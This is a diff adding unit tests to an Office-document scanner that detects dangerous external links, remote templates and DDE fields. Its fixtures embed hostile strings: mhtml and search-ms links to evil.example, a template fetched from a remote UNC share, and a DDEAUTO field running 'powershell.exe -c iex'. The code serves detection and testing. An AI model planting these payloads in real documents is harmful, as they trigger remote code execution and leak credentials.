@@ -750,6 +750,152 @@ START_TEST(corpus_excel4_formulas)
 }
 END_TEST
 
+/* Scan a corpus file as an attachment named name; NULL when absent. */
+static char *
+scan_corpus(const char *rel, const char *name)
+{
+	char *path = tu_corpus(rel);
+	gchar *d = NULL;
+	gsize len;
+	char *json;
+
+	if (path == NULL || !g_file_get_contents(path, &d, &len, NULL)) {
+		g_free(path);
+		return NULL;
+	}
+	json = scan_json((const uint8_t *)d, len, name);
+	g_free(d);
+	g_free(path);
+	return json;
+}
+
+START_TEST(ooxml_external_links_and_schemes)
+{
+	GByteArray *z = g_byte_array_new(), *cd = g_byte_array_new();
+	const char *ct = "<?xml version=\"1.0\"?><Types xmlns=\"x\"/>";
+	const char *doc = "<w:document><w:body><w:p><w:r><w:t>Hi</w:t>"
+	    "</w:r></w:p></w:body></w:document>";
+	const char *rels = "<Relationships>"
+	    "<Relationship Id=\"rId1\" Type=\"http://x/relationships/"
+	    "oleObject\" Target=\"mhtml:http://evil.example/a.html!x-usc:"
+	    "http://evil.example/a.html\" TargetMode=\"External\"/>"
+	    "<Relationship Id=\"rId2\" Type=\"http://x/relationships/"
+	    "hyperlink\" Target=\"search-ms:query=invoice&amp;crumb=location:"
+	    "\\\\evil.example@80\\pub\" TargetMode=\"External\"/>"
+	    "</Relationships>";
+	const char *settings = "<Relationships><Relationship Id=\"rId1\" "
+	    "Type=\"http://x/relationships/attachedTemplate\" Target=\""
+	    "\\\\203.0.113.7\\share\\t.dotm\" TargetMode=\"External\"/>"
+	    "</Relationships>";
+	char *json;
+	const char *const want[] = { "\"OFFICE_DANGEROUS_SCHEME\"",
+		"oleObject mhtml:http://evil.example/a.html",
+		"hyperlink search-ms:query=invoice",
+		"\"OFFICE_EXTERNAL_TEMPLATE\"", "\\\\\\\\203.0.113.7",
+		"\"OFFICE_EXTERNAL_OBJECT\"", NULL };
+
+	zip_add(z, cd, "[Content_Types].xml", ct, strlen(ct));
+	zip_add(z, cd, "word/document.xml", doc, strlen(doc));
+	zip_add(z, cd, "word/_rels/document.xml.rels", rels, strlen(rels));
+	zip_add(z, cd, "word/_rels/settings.xml.rels", settings,
+	    strlen(settings));
+	zip_finish(z, cd, 4);
+	json = scan_json(z->data, z->len, "order.docx");
+	want_in(json, want, true);
+	g_free(json);
+	g_byte_array_free(z, TRUE);
+	g_byte_array_free(cd, TRUE);
+
+	/* Real files: a remote template (Tika), a remote OLE link
+	 * (oletools); a template on the author's disk is no sign. */
+	if ((json = scan_corpus("tika-office/testAttachedTemplate.docx",
+	    "a.docx")) != NULL) {
+		const char *const w[] = { "\"OFFICE_EXTERNAL_TEMPLATE\"",
+			"http://example.com/templates/malicious.dotx",
+			"\"action\":\"quarantine\"", NULL };
+
+		want_in(json, w, true);
+		g_free(json);
+	}
+	if ((json = scan_corpus("oletools-testdata/oleobj/external_link/"
+	    "sample_with_external_link_to_doc.xlsx", "a.xlsx")) != NULL) {
+		const char *const w[] = { "\"OFFICE_EXTERNAL_OBJECT\"", NULL };
+
+		want_in(json, w, true);
+		g_free(json);
+	}
+	if ((json = scan_corpus("tika-office/testWORD_template.docx",
+	    "a.docx")) != NULL) {
+		const char *const w[] = { "\"OFFICE_EXTERNAL_TEMPLATE\"",
+			"\"OFFICE_EXTERNAL_OBJECT\"", NULL };
+
+		want_in(json, w, false);
+		g_free(json);
+	}
+}
+END_TEST
+
+START_TEST(dde_fields)
+{
+	const char *const dde[] = { "oletools-testdata/msodde/dde-test.docx",
+		"oletools-testdata/msodde/dde-test.docm",
+		"oletools-testdata/msodde/dde-test.xlsx",
+		"oletools-testdata/msodde/dde-test.xlsm", NULL };
+	const char *const clean[] = {
+		"oletools-testdata/msodde/harmless-clean.docx",
+		"oletools-testdata/msodde/harmless-clean.doc", NULL };
+	GByteArray *w = g_byte_array_new();
+	struct cfb_ent e[1];
+	GByteArray *cfb;
+	char *json;
+	const char *field = "\x13 DDEAUTO \"C:\\Programs\\Microsoft\\"
+	    "Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\"
+	    "WindowsPowerShell\\v1.0\\powershell.exe -c iex\" \"x\"\x14r\x15"
+	    "\x13 DDE Excel \"C:\\\\Book1.xls\" \"R1C1\"\x15";
+	const char *const want[] = { "\"OFFICE_DDE\"", "powershell.exe -c iex",
+		"\"DDE: DDE Excel", NULL };
+
+	for (size_t i = 0; dde[i] != NULL; i++) {
+		const char *const wd[] = { "\"OFFICE_DDE\"", "cmd", NULL };
+
+		if ((json = scan_corpus(dde[i], "x.bin")) == NULL)
+			continue;
+		want_in(json, wd, true);
+		g_free(json);
+	}
+	for (size_t i = 0; clean[i] != NULL; i++) {
+		const char *const wd[] = { "\"OFFICE_DDE\"", NULL };
+
+		if ((json = scan_corpus(clean[i], "x.bin")) == NULL)
+			continue;
+		want_in(json, wd, false);
+		g_free(json);
+	}
+	/* A binary Word stream: field codes between 0x13 and 0x14/0x15. */
+	g_byte_array_set_size(w, 512);
+	memset(w->data, 0, 512);
+	g_byte_array_append(w, (const uint8_t *)field, strlen(field));
+	g_byte_array_set_size(w, 1024);
+	e[0] = (struct cfb_ent){ "WordDocument", -1, false, w };
+	cfb = cfb_build(e, 1);
+	json = scan_json(cfb->data, cfb->len, "letter.doc");
+	want_in(json, want, true);
+	{
+		/* A DDE link to Excel is a link (listed), not OFFICE_DDE. */
+		const char *sym = strstr(json, "\"symbols\"");
+		const char *objs = strstr(json, "\"objects\"");
+		char *syms = g_strndup(sym, (gsize)(objs - sym));
+
+		ck_assert_msg(strstr(syms, "Book1") == NULL, "got %s", syms);
+		ck_assert_ptr_nonnull(strstr(objs, "Book1.xls"));
+		g_free(syms);
+	}
+	g_free(json);
+	g_byte_array_free(cfb, TRUE);
+	g_byte_array_free(w, TRUE);
+}
+END_TEST
+
 static Suite *
 office_suite(void)
 {
@@ -767,6 +913,8 @@ office_suite(void)
 	tcase_add_test(tc, xlm_formula_tokens);
 	tcase_add_test(tc, xlm_dropper_end_to_end);
 	tcase_add_test(tc, corpus_excel4_formulas);
+	tcase_add_test(tc, ooxml_external_links_and_schemes);
+	tcase_add_test(tc, dde_fields);
 	suite_add_tcase(s, tc);
 	return s;
 }
